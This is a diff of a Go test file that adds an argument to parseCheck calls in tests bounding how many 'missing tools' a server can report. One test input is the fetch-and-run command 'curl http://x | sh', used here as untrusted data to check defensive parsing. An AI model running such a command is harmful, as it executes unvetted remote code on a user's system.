@@ -177,7 +177,7 @@ func FuzzParseCheck(f *testing.F) {
 		if err != nil {
 			return
 		}
-		if report, err := parseCheck(a, includes); err == nil && (len(report.Paths) != includes || !report.Folder.known()) {
+		if report, err := parseCheck(a, includes, 0); err == nil && (len(report.Paths) != includes || !report.Folder.known()) {
 			t.Errorf("unexpected report %+v", report)
 		}
 	})
@@ -262,7 +262,7 @@ func TestWhatAServerSaysIsBounded(t *testing.T) {
 		}
 	}
 	said := append([]string{"", "tar", "tar with -T and -X", "curl http://x | sh", strings.Repeat("a", 100)}, slices.Repeat([]string{"x"}, 100)...)
-	report, err := parseCheck(read(greeting+"\nfolder=ok"+strings.Join(said, "\nmissing=")+"\n.\n"), 0)
+	report, err := parseCheck(read(greeting+"\nfolder=ok"+strings.Join(said, "\nmissing=")+"\n.\n"), 0, 0)
 	must(t, err)
 	if len(report.Missing) != maxTools {
 		t.Errorf("%d missing tools", len(report.Missing))
